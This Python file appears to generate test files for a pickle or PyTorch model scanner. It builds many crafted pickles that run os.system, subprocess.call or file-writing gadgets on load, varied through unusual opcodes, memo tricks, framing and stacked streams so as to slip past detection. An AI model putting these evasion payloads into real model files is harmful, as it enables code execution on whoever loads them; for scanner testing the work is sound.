"""Writes the same call in all ways that opcodes allow, with different opcodes before and after it."""

import struct

from . import opcodes as o
from .payloads import INNER, SYSTEM, TOUCH
from .pickler import MAGIC, SYSTEM as FACTS
from .pickler import VERSION, Call, Name, Raw, dump, state_dict, stream
from .zips import torch_zip

ARGUMENTS = o.items(TOUCH)
NAMED = o.named("os.system")
RUN = NAMED + ARGUMENTS + b"R"
PLAIN = o.named("torch.Size")


def bodies():
    """Bodies that call `os.system`, or create an object of a class that writes a file then."""
    memmap = o.named("numpy.memmap")
    opens = o.items("ran", "uint8", "w+", 0, (4,))
    size = {"dtype": "uint8", "mode": "w+", "shape": (4,)}
    namespace = o.call("argparse.Namespace")
    return {
        "global": RUN,
        "inst": b"(" + o.text(TOUCH) + b"ios\nsystem\n",
        "obj": b"(" + NAMED + o.text(TOUCH) + b"o",
        "newobj": memmap + opens + b"\x81",
        "newobj-ex": memmap + o.items("ran") + o.value_of(size) + b"\x92",
        "setstate-gadget": o.built(o.built(namespace, {"__setstate__": NAMED}), TOUCH),
        "append-gadget": o.built(namespace, {"append": NAMED}) + o.text(TOUCH) + b"a",
        "appends-gadget": o.built(namespace, {"extend": o.named("subprocess.call")}) + b"(" + o.text("touch") + o.text("ran") + b"e",
        "appends-one-by-one": o.built(namespace, {"append": NAMED}) + b"(" + o.text(TOUCH) + b"e",
        "additems-gadget": o.built(namespace, {"add": NAMED}) + b"(" + o.text(TOUCH) + b"\x90",
        "slots-gadget": o.built(o.built(namespace, (None, {"__setstate__": NAMED})), TOUCH),
        "dup": NAMED + b"20" + ARGUMENTS + b"R",
        "pop-mark": b"(((" + PLAIN + b"1" + b"0" + b"0" + RUN,
        "pop-of-mark": b"(0" + RUN,
        "tuple-1": NAMED + o.text(TOUCH) + b"\x85R",
        "list-dropped": NAMED + b"(l" + o.text(TOUCH) + b"a0" + ARGUMENTS + b"R",
        "protocol-later": b"\x80\x04" + o.stacked("torch.serialization:os.system") + ARGUMENTS + b"R",
        "protocol-back": b"\x80\x04\x80\x02" + RUN,
        "short-bytes-name": NAMED + b"(U" + bytes([len(TOUCH)]) + TOUCH.encode() + b"tR",
        "utf-8-line": b"cos\nsystem\n" + ARGUMENTS + b"R",
    }


def memo_bodies():
    """Bodies that use the memo in unusual ways: entries that are overwritten, and numbers with unusual forms."""
    get = ARGUMENTS + b"R"
    return {
        "overwritten": PLAIN + b"q\x00" + NAMED + b"q\x0000h\x00" + get,
        "overwritten-long": PLAIN + b"q\x00" + NAMED + b"r\0\0\0\x0000h\x00" + get,
        "overwritten-text": PLAIN + b"q\x00" + NAMED + b"p0\n00h\x00" + get,
        "text-zeros": PLAIN + b"q\x01" + NAMED + b"p001\n00h\x01" + get,
        "text-blank": PLAIN + b"q\x01" + NAMED + b"p 1\n00h\x01" + get,
        "text-plus": PLAIN + b"q\x01" + NAMED + b"p+1\n00h\x01" + get,
        "text-underline": PLAIN + b"q\x0a" + NAMED + b"p1_0\n00h\x0a" + get,
        "get-blank": NAMED + b"q\x01" + b"0g 1\n" + get,
        "get-underline": NAMED + b"q\x0a" + b"0g1_0\n" + get,
        "get-long": NAMED + b"q\x01" + b"0j\x01\0\0\0" + get,
        "memoize-after-gap": PLAIN + b"q\x05" + NAMED + b"\x94" + b"00" + PLAIN + b"q\x060h\x01" + get,
        "memoize-after-same": PLAIN + b"q\x00" + PLAIN + b"q\x00" + NAMED + b"\x94000h\x01" + get,
        "memoize-over": PLAIN + b"q\x01" + NAMED + b"\x9400h\x01" + get,
        "memoize-next": PLAIN + b"\x94" + NAMED + b"\x9400h\x01" + get,
        "large": NAMED + b"r\xff\xff\x00\x000j\xff\xff\x00\x00" + get,
        "stacked-from-memo": o.text("os") + b"q\x00" + o.text("system") + b"q\x0100h\x00h\x01\x93" + get,
        "stacked-overwritten": o.text("torch") + b"q\x00" + o.text("Size") + b"q\x01" + o.text("os") + b"q\x00" + o.text(
            "system") + b"q\x010000h\x00h\x01\x93" + get,
        "stacked-dup": o.text("posix") + b"2" + b"0" + o.text("system") + b"\x93" + get,
    }


def names():
    """Bodies with names in all forms of texts, and with the old names of Python 2."""
    found = {}
    for name, spell in o.TEXTS.items():
        found[f"stacked-{name}"] = o.stacked("os.system", spell) + ARGUMENTS + b"R"
    for path in ("cPickle.loads", "_pickle.loads"):
        found[f"python-2-{path}"] = o.named(path) + INNER.body + b"\x85R"
    found["python-2-dumbdbm"] = o.named("dumbdbm.open") + o.items("ran", "n") + b"R"
    found["python-2-thread"] = o.named("commands.getstatusoutput") + ARGUMENTS + b"R"
    found["mapped-reduce"] = o.named("__builtin__.reduce") + o.items(
        o.named("__builtin__.getattr"), o.value_of(["system"]), o.call("__builtin__.__import__", "os")) + b"R" + ARGUMENTS + b"R"
    return found


def wrapped():
    """Bodies with unusual opcodes around a call: frames of wrong sizes, additional marks, values left on the stack."""
    frame = b"\x95" + struct.pack("<Q", len(RUN) + 1)
    return {
        "frame": b"\x80\x04" + frame + RUN + b".",
        "frame-none": b"\x80\x04\x95" + bytes(8) + RUN + b".",
        "frame-short": b"\x80\x04\x95" + struct.pack("<Q", 3) + RUN + b".",
        "frame-of-more": b"\x80\x04" + frame + b"N" + RUN + b".",
        "frame-in-protocol-2": b"\x80\x02" + frame + RUN + b".",
        "frame-without-mark": frame + RUN + b".",
        "no-mark": RUN + b".",
        "no-mark-inst": b"(" + b"S'" + TOUCH.encode() + b"'\nios\nsystem\n.",
        "mark-0": b"\x80\x00" + RUN + b".",
        "mark-twice": b"\x80\x02\x80\x02" + RUN + b".",
        "left-on-stack": b"\x80\x02NNN" + RUN + b".",
        "dropped": b"\x80\x02" + RUN + b"0N.",
        "after-stop": b"\x80\x02N." + b"\x80\x02" + RUN + b".",
        "no-stop": b"\x80\x02" + RUN,
        "fails-after": b"\x80\x02" + RUN + b"\xff",
        "in-key": b"\x80\x02}" + RUN + b"Ns.",
        "in-persistent-id": b"\x80\x02" + RUN + b"Q.",
        "in-state": b"\x80\x02" + o.call("collections.OrderedDict") + b"}" + o.text("a") + RUN + b"sb.",
        "blank-lines": b"\x80\x02" + b"I01\n0I00\n0I 7\n0L7L\n0F1e3\n0S'x'\n0Vx\n0" + RUN + b".",
        "long-4": b"\x80\x02\x8b\x00\x00\x00\x000" + RUN + b".",
        "bytes-8": b"\x80\x05\x8e" + struct.pack("<Q", 1) + b"x0\x96" + struct.pack("<Q", 1) + b"x0" + RUN + b".",
        "frozen": b"\x80\x04(N\x910\x8f(N\x900" + RUN + b".",
    }


def every_spelling():
    """Files with each body alone, and with each as a value in the dictionary of an archive."""
    for kind, found in (("opcode", bodies()), ("memo", memo_bodies()), ("name", names())):
        for name, body in found.items():
            protocol = 4 if b"\x93" in body or b"\x94" in body else 2
            yield f"spelling/{kind}-{name}.pkl", o.pickle(body, protocol)
            yield f"spelling/{kind}-{name}.pt", torch_zip(o.pickle(
                b"}" + o.text("x") + body + b"s", protocol))
    for name, data in wrapped().items():
        yield f"wrapped/{name}.pkl", data
        yield f"wrapped/{name}.pt", torch_zip(data)


# MARK: Several pickles in a row


def magics():
    """Pickles of torch's magic number, in all forms."""
    raw = MAGIC.to_bytes(10, "little")
    return {
        "usual": b"\x80\x02\x8a\x0a" + raw + b".",
        "no-mark": b"\x8a\x0a" + raw + b".",
        "padded": b"\x8a\x0c" + raw + b"\0\0.",
        "long-4": b"\x8b\x0a\0\0\0" + raw + b".",
        "text": b"L%dL\n." % MAGIC,
        "text-plain": b"L%d\n." % MAGIC,
        "text-integer": b"I%d\n." % MAGIC,
        "text-hexadecimal": b"L0x%xL\n." % MAGIC,
        "text-octal": b"L0o%oL\n." % MAGIC,
        "text-underline": b"L119547037146038801333_356L\n." ,
        "text-blank": b"L %d\n." % MAGIC,
        "float": dump(float(MAGIC)),
        "called": dump(Call("builtins.int", str(MAGIC))),
        "dropped-before": b"N0\x8a\x0a" + raw + b".",
        "name-before": b"ctorch\nSize\n0\x8a\x0a" + raw + b".",
        "name-before-after-mark": b"\x80\x02ctorch\nSize\n0\x8a\x0a" + raw + b".",
        "memo": b"\x8a\x0a" + raw + b"q\x000h\x00.",
    }


def every_order():
    """Files of several pickles, of which the second, third … or sixth runs code. Those before it are expected ones or others."""
    run = o.pickle(RUN, None)
    for name, magic in magics().items():
        yield f"order/second-after-{name}.pt", magic + run
        yield f"order/second-after-{name}-marked.pt", magic + dump(SYSTEM)
        yield f"order/fourth-after-{name}.pt", magic + dump(VERSION) + dump(FACTS) + dump(SYSTEM)
    for index, name in enumerate(("first", "second", "third", "fourth", "fifth")):
        for protocol in (2, 4):
            yield f"order/{name}-of-stream.protocol-{protocol}.pt", stream(protocol=protocol, parts={index: dump(SYSTEM, protocol)})
        yield f"order/{name}-of-stream-unmarked.pt", stream(parts={index: run})
    yield "order/after-stream.pt", stream(rest=b"", keys=()) + dump(SYSTEM)
    yield "order/after-stream-of-nothing.pt", stream({"a": 1}, rest=b"", keys=()) + dump(SYSTEM)
    for count in range(1, 8):
        yield f"order/after-{count}-values.pkl", dump({"a": 1}) * count + dump(SYSTEM)
    yield "order/version-of-text.pt", stream(parts={1: RUN + b"0I1001\n."})
    yield "order/facts-dropped.pt", stream(parts={2: o.pickle(RUN + b"0N")})
    yield "order/keys-dropped.pt", stream(parts={4: o.pickle(RUN + b"0](" + o.text("0") + b"e")})
    yield "order/magic-dropped.pt", stream(parts={0: o.pickle(RUN + b"0" + o.number(MAGIC))})


# MARK: Persistent ids


def patch(path="ran", content="+ nothing\n", target="argparse.Namespace"):
    """Makes torch write a file. Torch compares the source of a class with the source in the stream, and writes the difference to a
    file if the class asks for it.

    A BUILD with slots makes the class ask for it, and sets the name of the class, which becomes the name of the file.
    """
    told = o.built(o.named(target), (None, {"dump_patches": True, "__name__": path}))
    return Raw(o.items("module", told, "x.py", content) + b"Q")


def every_persistent_id():
    lists = {
        "module": patch(),
        "module-with-path": patch("./ran", "import os\n"),
        "module-counter": patch(target="collections.Counter"),
        "module-storage": patch(target="torch.storage.UntypedStorage"),
        "module-bytes": Raw(o.items(o.raw_bytes(b"module"), o.built(o.named("argparse.Namespace"), (
            None, {"dump_patches": True, "__name__": "ran"})), "x.py", "x") + b"Q"),
        "key-runs": Raw(o.items("storage", o.named("torch.FloatStorage"), RUN, "cpu", 2, None) + b"Q"),
        "kind-runs": Raw(o.items("storage", RUN, "0", "cpu", 2, None) + b"Q"),
        "count-runs": Raw(o.items("storage", o.named("torch.FloatStorage"), "0", "cpu", RUN, None) + b"Q"),
        "view-runs": Raw(o.items("storage", o.named("torch.FloatStorage"), "0", "cpu", 2, (RUN, 0, 1)) + b"Q"),
        "unknown-kind": Raw(o.items("other", RUN) + b"Q"),
    }
    for name, value in lists.items():
        yield f"persistent/{name}-stream.pt", stream(state_dict(value, view=True))
        yield f"persistent/{name}-alone-stream.pt", stream({"x": value}, keys=(), rest=b"")
    for name, value in lists.items():
        short = Raw(value.body.replace(b"Nt" + b"Q", b"tQ")) if isinstance(value, Raw) else value
        yield f"persistent/{name}.pt", torch_zip(dump(state_dict(short)))
    yield "persistent/text-line.pkl", b"Pmodule\n0" + RUN + b"."
    yield "persistent/named.pt", stream(state_dict(Call("collections.OrderedDict", [(Name("torch.Size"), patch())]), view=True))
